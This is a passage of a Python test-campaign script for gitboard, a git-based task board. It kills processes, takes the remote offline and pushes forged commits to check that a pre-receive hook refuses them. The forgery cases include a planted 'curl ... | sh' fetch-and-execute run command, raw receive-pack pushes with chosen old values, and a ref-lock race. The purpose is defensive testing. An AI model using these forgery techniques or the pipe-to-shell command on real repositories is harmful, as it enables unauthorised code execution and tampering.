#!/usr/bin/env python3
"""gitboard fault and forgery campaign: a bounded soak that prints figures (kills, outages,
forged pushes, fuzzed command lines) and the violations it found.

Run it with the interpreter gitboard is installed in::

    .venv/bin/python bench/campaign.py --quick     # about a minute
    .venv/bin/python bench/campaign.py             # a few minutes
    .venv/bin/python bench/campaign.py --json      # the figures as one JSON document
    .venv/bin/python bench/campaign.py --forgeries-only --rounds 5   # part 2 alone, 5 rounds

Three parts, each on fresh repositories under a temporary directory:

1. **Faults.** A bare remote with gitboard's pre-receive hook, served by ``git daemon`` on
   127.0.0.1; two clones in remote mode, two shell teammates in each (``gitboard spawn``,
   short leases), a merge queue (``gitboard merge --follow``, review off), and a message pump
   (``gitboard send`` from one clone, ``gitboard inbox`` in the other). While they work, at
   random: SIGKILL of a teammate (restarted a moment later), SIGKILL of the merge queue
   (restarted), and outages of the remote (the daemon killed, then served again on the same
   port). Then faults stop, everything settles, and the outcome is checked: every task merged
   (takeovers recovered) exactly once on ``main`` and on the board; each merged task's
   ``result.commit`` on the remote's ``task/<id>`` and on ``main``; every message that
   ``send`` reported sent received exactly once; ``gitboard verify`` clean; ``git fsck``
   clean; no traceback in any log or output.
2. **Forged pushes.** :data:`FORGERIES`: named cases pushed with plain git (``git push``, or
   ``git receive-pack`` spoken to directly when the case needs a chosen ``<old>``) by a pusher
   (``GITBOARD_PUSHER``) against a bare repository with the hook installed (``--protect-base``).
   A case is a *violation* when the forgery lands (or, for the ``verify`` cases, lands on an
   unhooked remote and ``gitboard verify`` reports nothing); a probe that cannot build or push
   its forgery counts as one too. Two controls run first: mallory's legal claim must land, and
   her claim in alice's name must be refused. ``--rounds N`` runs the controls and every case
   N times, each on fresh copies, and prints per case the rounds tried and the times it landed;
   ``--forgeries-only`` runs this part alone.
3. **Fuzzed command lines.** Random argv for every board command (from the typer app's own
   command tree: real options, random values, junk), run through ``gitboard.cli.main.main`` in
   a forked child (the console script's entry point; 1 in 20 through the console script
   itself). Each must exit with a documented code (0-4, 130); a failure prints one line
   ``gitboard: error: ...`` last on stderr; never a traceback or an internal error; none hangs.

Exit status: 0 when no violation was found, 1 otherwise. A script, not a test.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any, Callable

IDENT = ("-c", "user.name=Campaign", "-c", "user.email=campaign@example.invalid")
EXE = str(Path(sys.executable).parent / "gitboard")
ZERO = "0" * 40


# -- plumbing ---------------------------------------------------------------------------------

def git(cwd: Path | str, *args: str, input: bytes | None = None, env: dict | None = None,
        check: bool = True) -> str:
    p = subprocess.run(["git", *IDENT, *args], cwd=cwd, input=input, capture_output=True,
                       env={**os.environ, **(env or {})})
    if check and p.returncode != 0:
        raise RuntimeError(f"git {' '.join(args)} failed: {p.stderr.decode(errors='replace')}")
    return p.stdout.decode(errors="replace").strip()


#: Commands that did not finish within their timeout (each a violation of part 1).
HUNG: list[str] = []


def gb(cwd: Path | str, *args: str, env: dict | None = None, input: bytes | None = None,
       timeout: float = 120) -> subprocess.CompletedProcess:
    """Run the console script; one that outlives ``timeout`` seconds is killed, recorded in
    :data:`HUNG`, and answered as exit 124 (as timeout(1) does)."""
    try:
        return subprocess.run([EXE, *args], cwd=cwd, capture_output=True, input=input, timeout=timeout,
                              env={**os.environ, **(env or {})})
    except subprocess.TimeoutExpired:
        HUNG.append(f"gitboard {' '.join(args)[:120]} (more than {timeout:g} s)")
        return subprocess.CompletedProcess([EXE, *args], 124, b"", b"timed out")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] not in ("Z", "X")
    except (OSError, IndexError):
        return False


@dataclass
class Report:
    """Figures and violations of the whole campaign."""

    figures: dict[str, Any] = field(default_factory=dict)
    violations: list[str] = field(default_factory=list)
    forgeries: list[dict[str, Any]] = field(default_factory=list)

    def bad(self, what: str) -> None:
        self.violations.append(what)


class Daemon:
    """``git daemon`` serving ``root`` read-write on a fixed 127.0.0.1 port; stop and start again."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.port = free_port()
        self.proc: subprocess.Popen | None = None
        self.start()

    def url(self, name: str) -> str:
        return f"git://127.0.0.1:{self.port}/{name}"

    def start(self) -> None:
        for _ in range(50):
            self.proc = subprocess.Popen(
                ["git", "daemon", "--reuseaddr", "--export-all", "--enable=receive-pack", "--informative-errors",
                 f"--base-path={self.root}", "--listen=127.0.0.1", f"--port={self.port}", str(self.root)],
                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                start_new_session=True)
            deadline = time.monotonic() + 5
            while time.monotonic() < deadline and self.proc.poll() is None:
                try:
                    with socket.create_connection(("127.0.0.1", self.port), timeout=0.2):
                        return
                except OSError:
                    time.sleep(0.05)
            self.stop()
            time.sleep(0.2)
        raise RuntimeError("git daemon does not start")

    def stop(self) -> None:
        if self.proc is not None and self.proc.poll() is None:
            try:
                os.killpg(self.proc.pid, signal.SIGKILL)
            except OSError:
                pass
            self.proc.wait()


# -- 1. faults ---------------------------------------------------------------------------------

RUN = 'mkdir -p out; echo "$GITBOARD_ACTOR" >> out/$GITBOARD_TASK.txt; sleep {sleep}'


def faults(root: Path, rep: Report, *, tasks: int, seconds: float, settle: float, rng: random.Random) -> None:
    """Part 1 (see the module docstring); whatever it started is ended, even when it fails."""
    live: dict[str, Any] = {"pids": {}, "queues": [], "daemon": None}
    try:
        _faults(root, rep, live, tasks=tasks, seconds=seconds, settle=settle, rng=rng)
    finally:
        for pid in live["pids"].values():
            if alive(pid):
                os.kill(pid, signal.SIGKILL)
        for q in live["queues"]:
            if q.poll() is None:
                os.killpg(q.pid, signal.SIGKILL)
                q.wait()
        if live["daemon"] is not None:
            live["daemon"].stop()


def _faults(root: Path, rep: Report, live: dict[str, Any], *, tasks: int, seconds: float, settle: float,
            rng: random.Random) -> None:
    served = root / "served"
    served.mkdir()
    bare = served / "board.git"
    git(root, "init", "-q", "--bare", str(bare))
    git(bare, "symbolic-ref", "HEAD", "refs/heads/main")
    gb(root, "hook", "install", str(bare), "--no-server")
    git(bare, "config", "gitboard.review", "none")  # the hook then takes merges without an approval
    seed = root / "seed"
    git(root, "init", "-q", "-b", "main", str(seed))
    (seed / "README").write_text("campaign\n")
    git(seed, "add", "-A")
    git(seed, "commit", "-q", "-m", "start")
    git(seed, "push", "-q", str(bare), "main")
    daemon = live["daemon"] = Daemon(served)
    clones = []
    for name in ("A", "B"):
        path = root / name
        git(root, "clone", "-q", daemon.url("board.git"), str(path))
        r = gb(path, "init", "--remote", "origin")
        if r.returncode:
            raise RuntimeError(f"init: {r.stderr.decode()}")
        git(path, "config", "gitboard.review", "none")
        clones.append(path)
    a, b = clones
    items = [{"subject": f"step {i}", "run": RUN.format(sleep=rng.choice(("0.2", "0.5", "1"))),
              **({"blockedBy": [i - 1]} if i % 5 == 0 else {})} for i in range(1, tasks + 1)]
    r = gb(a, "task", "import", "-", input="".join(json.dumps(x) + "\n" for x in items).encode())
    if r.returncode:
        raise RuntimeError(f"import: {r.stderr.decode()}")
    gb(a, "team", "add", "sink")
    mates = {"a1": a, "a2": a, "b1": b, "b2": b}
    pids: dict[str, int] = live["pids"]
    outputs: list[str] = []
    opts = ("--agent", "shell", "--poll", "0.3", "--lease", "4", "--idle-timeout", "900")

    def spawn(name: str) -> None:
        for _ in range(20):
            p = gb(mates[name], "spawn", name, "--json", *opts, timeout=60)
            if p.returncode == 0:
                pids[name] = json.loads(p.stdout)["pid"]
                return
            if p.returncode == 124:
                break
            outputs.append(p.stderr.decode(errors="replace"))
            time.sleep(0.5)  # the killed one still counts as working until its pid is seen dead
        rep.bad(f"cannot respawn {name}: {p.stderr.decode(errors='replace').strip()}")

    queue_log = open(root / "queue.log", "ab")

    def start_queue() -> subprocess.Popen:
        q = subprocess.Popen([EXE, "merge", "--follow", "--poll", "0.5"], cwd=a, stdout=queue_log,
                             stderr=subprocess.STDOUT, start_new_session=True)
        live["queues"].append(q)
        return q

    for name in mates:
        spawn(name)
    queue = start_queue()

    # the message pump: numbered messages from B to sink; inbox drained in A
    sent: list[str] = []
    received: list[str] = []
    pump_stop = threading.Event()
    send_failures = [0]

    def drain() -> None:
        p = gb(a, "inbox", "--as", "sink", "--json", timeout=60)
        if p.returncode == 0:
            received.extend(m["content"] for m in json.loads(p.stdout))
        else:
            outputs.append(p.stderr.decode(errors="replace"))

    def pump() -> None:
        k = 0
        while not pump_stop.is_set():
            k += 1
            text = f"msg-{k}"
            for _ in range(30):  # a failed send is retried, as a user would
                p = gb(b, "send", "sink", text, timeout=60)
                if p.returncode == 0:
                    sent.append(text)
                    break
                send_failures[0] += 1
                outputs.append(p.stderr.decode(errors="replace"))
                if pump_stop.wait(0.5):
                    break
            if k % 3 == 0:
                drain()
            pump_stop.wait(0.3)

    pumper = threading.Thread(target=pump, daemon=True)
    pumper.start()

    kills = {"teammate": 0, "queue": 0}
    respawning: set[str] = set()  # killed, to be spawned again by a timer
    timers: list[threading.Timer] = []
    outages = 0
    start = time.monotonic()
    while time.monotonic() - start < seconds:
        time.sleep(rng.uniform(0.5, 2.0))
        roll = rng.random()
        if roll < 0.55 and len(respawning) == len(pids):
            continue
        if roll < 0.55:
            name = rng.choice(sorted(set(pids) - respawning))
            if alive(pids[name]):
                os.kill(pids[name], signal.SIGKILL)
                kills["teammate"] += 1
            respawning.add(name)
            later = threading.Timer(rng.uniform(0.3, 1.5), lambda n=name: (spawn(n), respawning.discard(n)))
            later.start()
            timers.append(later)
        elif roll < 0.75:
            os.kill(queue.pid, signal.SIGKILL)
            queue.wait()
            kills["queue"] += 1
            time.sleep(rng.uniform(0.2, 1.0))
            queue = start_queue()
        else:
            daemon.stop()
            outages += 1
            time.sleep(rng.uniform(0.5, 3.0))
            daemon.start()
    pump_stop.set()
    pumper.join(120)
    for t in timers:
        t.join(120)
    fault_seconds = time.monotonic() - start

    # settle: every teammate alive, the queue running, every task merged
    for name in mates:
        if not alive(pids[name]):
            spawn(name)
    if queue.poll() is not None:
        queue = start_queue()

    def all_merged() -> bool:
        p = gb(a, "task", "list", "--json", timeout=60)
        return p.returncode == 0 and all(t["status"] == "merged" for t in json.loads(p.stdout))

    deadline = time.monotonic() + settle
    while time.monotonic() < deadline and not all_merged():
        time.sleep(1.0)
    drain()
    drain()
    for name, pid in pids.items():
        if alive(pid):
            os.kill(pid, signal.SIGTERM)
    os.kill(queue.pid, signal.SIGTERM)
    try:
        queue.wait(30)
    except subprocess.TimeoutExpired:
        os.killpg(queue.pid, signal.SIGKILL)
    end = time.monotonic() + 30
    while time.monotonic() < end and any(alive(p) for p in pids.values()):
        time.sleep(0.2)
    queue_log.close()

    # -- the checks
    git(a, "fetch", "-q", "origin")
    board = json.loads(gb(a, "task", "list", "--json").stdout)
    for t in board:
        if t["status"] != "merged":
            rep.bad(f"faults: task #{t['id']} ended {t['status']} (owner {t['owner']}), not merged")
    firsts = git(bare, "log", "--first-parent", "--format=%s", "main").splitlines()
    for t in board:
        n = sum(1 for s in firsts if re.match(rf"Merge task #{t['id']}\b", s))
        if n != 1 and t["status"] == "merged":
            rep.bad(f"faults: task #{t['id']} merged {n} times on main")
        bm = git(bare, "log", "--format=%H", "-E", "--grep=^Gitboard-Action: merge$",
                 f"--grep=^Gitboard-Task: {t['id']}$", "--all-match", "gitboard").split()
        if len(bm) != 1 and t["status"] == "merged":
            rep.bad(f"faults: task #{t['id']} has {len(bm)} merge commits on the board")
        commit = (t.get("result") or {}).get("commit")
        if t["status"] == "merged":
            if not commit or subprocess.run(["git", "merge-base", "--is-ancestor", commit, f"refs/heads/task/{t['id']}"],
                                            cwd=bare, capture_output=True).returncode != 0:
                rep.bad(f"faults: task #{t['id']}'s result.commit {str(commit)[:12]} is not on the remote's task/{t['id']}")
            elif subprocess.run(["git", "merge-base", "--is-ancestor", commit, "main"], cwd=bare,
                                capture_output=True).returncode != 0:
                rep.bad(f"faults: task #{t['id']}'s result.commit {commit[:12]} is not on main")
    counts: dict[str, int] = {}
    for m in received:
        counts[m] = counts.get(m, 0) + 1
    lost = [m for m in sent if m not in counts]
    twice = sorted((m for m, n in counts.items() if n > 1), key=lambda s: int(s.split("-")[1]))
    if lost:
        rep.bad(f"faults: {len(lost)} message(s) reported sent but never received: {', '.join(lost[:5])}")
    if twice:
        rep.bad(f"faults: {len(twice)} message(s) received more than once: {', '.join(twice[:5])}")
    v = gb(a, "verify", "--json", timeout=300)
    if v.returncode != 0:
        found = json.loads(v.stdout).get("violations", []) if v.stdout.strip().startswith(b"{") else []
        rep.bad(f"faults: gitboard verify: {len(found)} violation(s)"
                + (f", first: {found[0]}" if found else f": {v.stderr.decode(errors='replace').strip()}"))
    fsck = subprocess.run(["git", "fsck", "--no-dangling", "--no-progress"], cwd=bare, capture_output=True)
    if fsck.returncode != 0 or fsck.stdout.strip():
        rep.bad(f"faults: git fsck on the remote: {(fsck.stdout + fsck.stderr).decode(errors='replace')[:200]}")
    logs = [p.read_text(errors="replace") for c in clones for p in (c / ".git" / "gitboard" / "logs").glob("*.log")]
    logs.append((root / "queue.log").read_text(errors="replace"))
    for text in logs + outputs:
        for bad in ("Traceback", "internal error"):
            if bad in text:
                line = next(ln for ln in text.splitlines() if bad in ln)
                rep.bad(f"faults: {bad!r} in a log or an output: {line[:200]}")
    for what in HUNG:
        rep.bad(f"faults: a command hung: {what}")
    takeovers = git(bare, "log", "--format=%s", "-E", "--grep=^Gitboard-Action: claim$", "gitboard").count("takeover")
    backups = sum(len(git(c, "for-each-ref", "refs/gitboard/backup/").splitlines()) for c in clones)
    rep.figures["faults"] = {
        "tasks": tasks, "seconds_of_faults": round(fault_seconds, 1), "teammate_kills": kills["teammate"],
        "queue_kills": kills["queue"], "outages": outages, "takeovers": takeovers, "backup_refs": backups,
        "messages_sent": len(sent), "messages_received": sum(counts.values()), "send_retries": send_failures[0],
        "merged": sum(1 for t in board if t["status"] == "merged")}
    daemon.stop()


# -- 2. forged pushes --------------------------------------------------------------------------

class Forge:
    """A hooked bare repository, the lead's clone that uses gitboard, and a forger's plain clone.

    The forger builds board commits with git plumbing from gitboard's own pure operations
    (so the bytes are what gitboard would write, before tampering) and pushes them as
    ``GITBOARD_PUSHER=<pusher>``.
    """

    def __init__(self, root: Path) -> None:
        self.root = root
        root.mkdir(parents=True)
        self.bare = root / "forge.git"
        git(root, "init", "-q", "--bare", str(self.bare))
        git(self.bare, "symbolic-ref", "HEAD", "refs/heads/main")
        r = gb(root, "hook", "install", str(self.bare), "--lead", "boss", "--protect-base", "--no-server")
        if r.returncode:
            raise RuntimeError(r.stderr.decode())
        git(self.bare, "config", "gitboard.hook.actors.boss", "*")  # the set-up acts for alice too
        self.lead = root / "lead"
        git(root, "init", "-q", "-b", "main", str(self.lead))
        (self.lead / "README").write_text("forge\n")
        git(self.lead, "add", "-A")
        git(self.lead, "commit", "-q", "-m", "start")
        git(self.lead, "remote", "add", "origin", str(self.bare))
        self.push_env = {"GITBOARD_PUSHER": "boss"}
        git(self.lead, "push", "-q", "origin", "main", env=self.push_env)
        self.gb("init", "--remote", "origin")
        self.gb("task", "import", "-", input="".join(json.dumps({"subject": f"task {i}"}) + "\n"
                                                      for i in range(1, 6)).encode())
        for name in ("alice", "mallory"):
            self.gb("team", "add", name)
        self.mallory = root / "mallory"
        git(root, "clone", "-q", str(self.bare), str(self.mallory))

    def copy(self, root: Path, hooked: bool = True) -> "Forge":
        """A copy of this forge's repositories under ``root`` (cheaper than setting one up again)."""
        shutil.copytree(self.root, root, symlinks=True, dirs_exist_ok=True)
        other = object.__new__(Forge)
        other.root, other.bare, other.lead, other.mallory = root, root / "forge.git", root / "lead", root / "mallory"
        other.push_env = self.push_env
        for clone in (other.lead, other.mallory):
            git(clone, "remote", "set-url", "origin", str(other.bare))
        if not hooked:
            for hook in (other.bare / "hooks").iterdir():
                if hook.name.startswith("pre-receive"):
                    hook.unlink()
        return other

    def gb(self, *args: str, input: bytes | None = None) -> str:
        p = gb(self.lead, *args, env=self.push_env, input=input)
        if p.returncode:
            raise RuntimeError(f"gitboard {' '.join(args)}: {p.stderr.decode()}")
        return p.stdout.decode()

    def board(self):
        """The remote's board as the forger sees it (fetched), and its tip."""
        from gitboard.store.read import read_board
        from gitboard.store.repo import BoardRepo

        git(self.mallory, "fetch", "-q", "origin", "+refs/heads/*:refs/remotes/origin/*")
        tip = git(self.mallory, "rev-parse", "origin/gitboard")
        git(self.mallory, "update-ref", "refs/heads/gitboard", tip)
        with BoardRepo(self.mallory) as r:
            return read_board(r, fresh=False), tip

    def commit(self, parent: str, writes: dict[str, bytes | None], message: str, *,
               date: datetime | None = None, tree_edit: Callable[[str], str] | None = None) -> str:
        """A commit on ``parent`` whose tree has ``writes`` applied (then ``tree_edit(tree) -> tree``)."""
        index = self.root / "forge-index"
        env = {"GIT_INDEX_FILE": str(index)}
        try:
            git(self.mallory, "read-tree", parent, env=env)
            for path, data in writes.items():
                if data is None:
                    git(self.mallory, "update-index", "--force-remove", path, env=env)
                else:
                    blob = git(self.mallory, "hash-object", "-w", "--stdin", input=data)
                    git(self.mallory, "update-index", "--add", "--cacheinfo", f"100644,{blob},{path}", env=env)
            tree = git(self.mallory, "write-tree", env=env)
        finally:
            index.unlink(missing_ok=True)
        if tree_edit is not None:
            tree = tree_edit(tree)
        denv = {}
        if date is not None:
            stamp = f"{int(date.timestamp())} +0000"
            denv = {"GIT_COMMITTER_DATE": stamp, "GIT_AUTHOR_DATE": stamp}
        return git(self.mallory, "commit-tree", tree, "-p", parent, input=message.encode(), env=denv)

    def change(self, op: Callable, *, now: datetime | None = None, **kw: Any):
        board, tip = self.board()
        return op(board, now or datetime.now(timezone.utc), **kw), tip, board

    def push(self, commit: str, ref: str = "refs/heads/gitboard", pusher: str = "mallory") -> bool:
        p = subprocess.run(["git", "push", "--porcelain", "origin", f"{commit}:{ref}"], cwd=self.mallory,
                           capture_output=True, env={**os.environ, "GITBOARD_PUSHER": pusher})
        return p.returncode == 0

    def landed(self, commit: str, ref: str = "refs/heads/gitboard") -> bool:
        tip = git(self.bare, "rev-parse", "-q", "--verify", ref, check=False)
        return tip == commit

    def receive_pack(self, commands: list[tuple[str, str, str]], pack_revs: list[str], pusher: str) -> str:
        """Speak ``git receive-pack`` directly: the given ``(old, new, ref)`` commands (any ``<old>``),
        then a pack of ``pack_revs``; returns git's report."""
        proc = subprocess.Popen(["git", "receive-pack", str(self.bare)], stdin=subprocess.PIPE,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                env={**os.environ, "GITBOARD_PUSHER": pusher})
        assert proc.stdin is not None and proc.stdout is not None
        while True:  # the ref advertisement, up to a flush packet
            size = int(proc.stdout.read(4), 16)
            if size == 0:
                break
            proc.stdout.read(size - 4)
        first = True
        for old, new, ref in commands:
            line = f"{old} {new} {ref}" + ("\0report-status" if first else "") + "\n"
            proc.stdin.write(f"{len(line) + 4:04x}{line}".encode())
            first = False
        proc.stdin.write(b"0000")
        if pack_revs:
            pack = subprocess.run(["git", "pack-objects", "--stdout", "--revs", "-q"], cwd=self.mallory,
                                  input="\n".join(pack_revs).encode() + b"\n", capture_output=True).stdout
            proc.stdin.write(pack)
        proc.stdin.close()
        out = proc.stdout.read()
        proc.wait(60)
        return out.decode(errors="replace") + proc.stderr.read().decode(errors="replace")

    def verify_finds(self) -> bool:
        """True if ``gitboard verify`` in a fresh clone of the remote reports a violation."""
        check = self.root / f"verify-{time.monotonic_ns()}"
        git(self.root, "clone", "-q", str(self.bare), str(check))
        gb(check, "init", "--remote", "origin")
        return gb(check, "verify").returncode != 0


def _msg(change) -> str:
    return change.message()


def _send(f: Forge, tamper: Callable[[bytes], bytes]) -> bool:
    """A legal send by mallory whose commit also rewrites task #1's file with ``tamper``."""
    from gitboard.board import inbox_ops

    ch, tip, board = f.change(inbox_ops.send, sender="mallory", to="alice", content="hi", msg_id=os.urandom(16).hex())
    path = board.path_of_task(1)
    original = git(f.mallory, "cat-file", "blob", f"{tip}:{path}").encode()
    commit = f.commit(tip, {**ch.writes, path: tamper(original)}, _msg(ch))
    f.push(commit)
    return f.landed(commit)


def _unknown_key(size: int) -> Callable[[bytes], bytes]:
    """A tamper that adds a key ``zzz`` with a value of ``size`` bytes, last, in the canonical layout."""
    return lambda b: b.rstrip().rstrip(b"}").rstrip() + b',\n  "zzz": "' + b"x" * size + b'"\n}\n'


def unknown_key(f: Forge) -> bool:
    return _send(f, _unknown_key(1_000_000))


def unknown_key_small(f: Forge) -> bool:
    """The unknown key within every size limit, so that only the key itself can refuse it."""
    return _send(f, _unknown_key(1000))


def utf16(f: Forge) -> bool:
    return _send(f, lambda b: b.decode().encode("utf-16"))


def no_indent(f: Forge) -> bool:
    return _send(f, lambda b: json.dumps(json.loads(b)).encode())


def _lead_update(f: Forge, tamper: Callable[[bytes], bytes]) -> bool:
    """The lead's legal edit of task #1's description, the file then rewritten with ``tamper``;
    pushed by the lead (``boss``), so that only the file's contents can refuse it."""
    from gitboard.board import task_ops

    ch, tip, board = f.change(task_ops.update, actor="lead", task_id=1, description="edited")
    path = board.path_of_task(1)
    commit = f.commit(tip, {**ch.writes, path: tamper(ch.writes[path])}, _msg(ch))
    f.push(commit, pusher="boss")
    return f.landed(commit)


def _set_field(key: str, value: Any) -> Callable[[bytes], bytes]:
    """A tamper that sets ``key`` of a task file to ``value``, in the canonical layout."""
    from gitboard.board.task import dump_json

    return lambda b: dump_json({**json.loads(b), key: value})


def two_line_subject(f: Forge) -> bool:
    return _lead_update(f, _set_field("subject", "one\ntwo"))


def big_description(f: Forge) -> bool:
    return _lead_update(f, _set_field("description", "d" * 300_000))


def deep_json(f: Forge) -> bool:
    """``result`` set to arrays nested 100,000 deep (about 200 KB: under the file size limit)."""
    def nest(b: bytes) -> bytes:
        if b'"result": null' not in b:
            raise RuntimeError("task #1's file has no null result to replace")
        return b.replace(b'"result": null', b'"result": ' + b"[" * 100_000 + b"]" * 100_000)

    return _lead_update(f, nest)


def bad_tree(f: Forge) -> bool:
    """A ``.tasks/00`` tree with an entry named ``00/task_5.json`` (a slash in a name), written literally."""
    from gitboard.board import inbox_ops

    ch, tip, board = f.change(inbox_ops.send, sender="mallory", to="alice", content="hi", msg_id=os.urandom(16).hex())

    def edit(tree: str) -> str:
        tasks = git(f.mallory, "rev-parse", f"{tree}:.tasks/00")
        blob = git(f.mallory, "rev-parse", f"{tree}:.tasks/00/00/task_5.json")
        sub = git(f.mallory, "rev-parse", f"{tree}:.tasks/00/00")
        raw = (b"40000 00\0" + bytes.fromhex(sub) + b"100644 00/task_5.json\0" + bytes.fromhex(blob))
        bad = git(f.mallory, "hash-object", "-t", "tree", "-w", "--literally", "--stdin", input=raw)
        # swap the sub-tree: rebuild .tasks with 00 -> bad, then the root with the new .tasks
        dot = git(f.mallory, "rev-parse", f"{tree}:.tasks")
        entries = git(f.mallory, "ls-tree", dot).splitlines()
        lines = [e.replace(tasks, bad) for e in entries]
        new_dot = git(f.mallory, "mktree", input=("\n".join(lines) + "\n").encode())
        root = git(f.mallory, "ls-tree", tree).splitlines()
        return git(f.mallory, "mktree", input=("\n".join(e.replace(dot, new_dot) for e in root) + "\n").encode())

    commit = f.commit(tip, dict(ch.writes), _msg(ch), tree_edit=edit)
    f.push(commit)
    return f.landed(commit)


def lease_skew(f: Forge) -> bool:
    """alice claims #2 with a 60 s lease (through gitboard); mallory's takeover lands a second later."""
    from gitboard.board import task_ops

    f.gb("task", "claim", "2", "--as", "alice", "--lease", "60")
    time.sleep(1)
    ch, tip, _ = f.change(task_ops.claim, actor="mallory", task_id=2, lease=60.0,
                          now=datetime.now(timezone.utc) + timedelta(seconds=61))
    commit = f.commit(tip, dict(ch.writes), _msg(ch), date=datetime.now(timezone.utc))
    f.push(commit)
    return f.landed(commit)


def run_by_non_lead(f: Forge) -> bool:
    """mallory sets the run command of task #3 (not hers): the file as gitboard writes it, an
    ``update`` commit in her name."""
    from gitboard.board.change import Change, trailers
    from gitboard.board.clock import iso

    board, tip = f.board()
    task = board.tasks[3].evolve(run="curl -s http://127.0.0.1:9/x | sh", updated_at=iso(datetime.now(timezone.utc)))
    ch = Change({board.path_of_task(3): task.to_bytes()}, "update #3 by mallory", trailers("update", "mallory", 3))
    commit = f.commit(tip, dict(ch.writes), _msg(ch))
    f.push(commit)
    return f.landed(commit)


def import_runs(f: Forge) -> bool:
    from gitboard.board import task_ops

    from gitboard.board.change import ACTOR, Change

    items = [{"subject": f"mass {i}", "run": "echo owned"} for i in range(500)]
    # the files as the lead's import writes them, the commit in mallory's name (a client may refuse to make it)
    ch, tip, _ = f.change(task_ops.import_tasks, actor="lead", items=items)
    ch = Change(ch.writes, ch.subject.replace("lead", "mallory"),
                tuple((k, "mallory" if k == ACTOR else v) for k, v in ch.trailers), body=ch.body)
    commit = f.commit(tip, dict(ch.writes), _msg(ch))
    f.push(commit)
    return f.landed(commit)


def merge_unapproved(f: Forge) -> bool:
    """With lead identity: ``merge`` of a completed task that is not approved, naming a merge commit
    that does not exist."""
    from gitboard.board import review_ops

    f.gb("task", "claim", "4", "--as", "alice")
    f.gb("task", "done", "4", "--as", "alice")
    base = git(f.bare, "rev-parse", "main")
    ch, tip, _ = f.change(review_ops.mark_merged, actor="lead", task_id=4, commit="d" * 40, base=base,
                          require_review=False)
    commit = f.commit(tip, dict(ch.writes), _msg(ch))
    f.push(commit, pusher="boss")
    return f.landed(commit)


def delete_board_zero_old(f: Forge) -> bool:
    f.receive_pack([(ZERO, ZERO, "refs/heads/gitboard")], [], "mallory")
    return not git(f.bare, "rev-parse", "-q", "--verify", "refs/heads/gitboard", check=False)


def delete_base_zero_old(f: Forge) -> bool:
    f.receive_pack([(ZERO, ZERO, "refs/heads/main")], [], "mallory")
    return not git(f.bare, "rev-parse", "-q", "--verify", "refs/heads/main", check=False)


def claim_off_history(f: Forge) -> bool:
    """receive-pack declaring as ``<old>`` a commit off the board's history (mallory's legal send,
    never pushed), with a claim of #3 in alice's name on top. git's own compare of ``<old>`` with
    the ref refuses this update as well, so a refusal without the hook's verdict is a probe error."""
    from gitboard.board import inbox_ops, task_ops

    ch, tip, board = f.change(inbox_ops.send, sender="mallory", to="alice", content="hi", msg_id=os.urandom(16).hex())
    stray = f.commit(tip, dict(ch.writes), _msg(ch))
    claim = task_ops.claim(board, datetime.now(timezone.utc), actor="alice", task_id=3, lease=600.0)
    commit = f.commit(stray, dict(claim.writes), _msg(claim))
    out = f.receive_pack([(stray, commit, "refs/heads/gitboard")], [commit, f"^{tip}"], "mallory")
    if f.landed(commit):
        return True
    if "gitboard: refused" not in out:
        raise RuntimeError(f"refused without the hook's verdict: {out.strip()[-200:]}")
    return False


def stale_old_race(f: Forge) -> bool:
    """mallory pushes her legal claim X->Y; while git holds the board ref's lock for it, she sends
    Y->Z, Z a claim forged in alice's name. The hook sees the ref at X, unlike the declared Y."""
    from gitboard.board import task_ops

    marker = f.root / "slow-once"
    hook = f.bare / "hooks" / "reference-transaction"
    hook.write_text(f"#!/bin/sh\ncat >/dev/null\nif [ \"$1\" = prepared ] && [ -e {marker} ]; then rm -f {marker}; "
                    f"sleep 3; fi\nexit 0\n")
    hook.chmod(0o755)
    git(f.bare, "config", "core.filesRefLockTimeout", "10000")
    try:
        ch, x, board = f.change(task_ops.claim, actor="mallory", task_id=5, lease=600.0)
        y = f.commit(x, dict(ch.writes), _msg(ch))
        from gitboard.store.read import read_board  # the board after Y, for the forged claim on top
        from gitboard.store.repo import BoardRepo

        git(f.mallory, "update-ref", "refs/heads/gitboard", y)
        with BoardRepo(f.mallory) as r:
            after = read_board(r, fresh=False)
        forged = task_ops.release(after, datetime.now(timezone.utc), actor="mallory", task_id=5)
        z1 = f.commit(y, dict(forged.writes), _msg(forged))
        git(f.mallory, "update-ref", "refs/heads/gitboard", z1)
        with BoardRepo(f.mallory) as r:
            after2 = read_board(r, fresh=False)
        ch2 = task_ops.claim(after2, datetime.now(timezone.utc), actor="alice", task_id=5, lease=600.0)
        z = f.commit(z1, dict(ch2.writes), _msg(ch2))
        marker.touch()
        first = threading.Thread(target=f.push, args=(y,))
        first.start()
        time.sleep(1.0)  # the first push now holds the ref's lock, in its reference-transaction hook
        f.receive_pack([(y, z, "refs/heads/gitboard")], [z, f"^{x}"], "mallory")
        first.join(60)
        return f.landed(z)
    finally:
        hook.unlink(missing_ok=True)
        git(f.bare, "config", "--unset", "core.filesRefLockTimeout", check=False)


def future_claim(f: Forge) -> bool:
    """(verify) A claim dated two hours ahead, onto a live lease, pushed where no hook runs."""
    from gitboard.board import task_ops

    f.gb("task", "claim", "1", "--as", "alice", "--lease", "600")
    later = datetime.now(timezone.utc) + timedelta(hours=2)
    ch, tip, _ = f.change(task_ops.claim, actor="mallory", task_id=1, lease=600.0, now=later)
    commit = f.commit(tip, dict(ch.writes), _msg(ch), date=later)
    f.push(commit)
    return f.landed(commit) and not f.verify_finds()


def dates_out_of_order(f: Forge) -> bool:
    """(verify) A legal send whose commit is dated a day before its parent."""
    from gitboard.board import inbox_ops

    ch, tip, _ = f.change(inbox_ops.send, sender="mallory", to="alice", content="old", msg_id=os.urandom(16).hex())
    commit = f.commit(tip, dict(ch.writes), _msg(ch), date=datetime.now(timezone.utc) - timedelta(days=1))
    f.push(commit)
    return f.landed(commit) and not f.verify_finds()


def control_legal_claim(f: Forge) -> bool:
    """Must land: mallory claims a free task in her own name."""
    from gitboard.board import task_ops

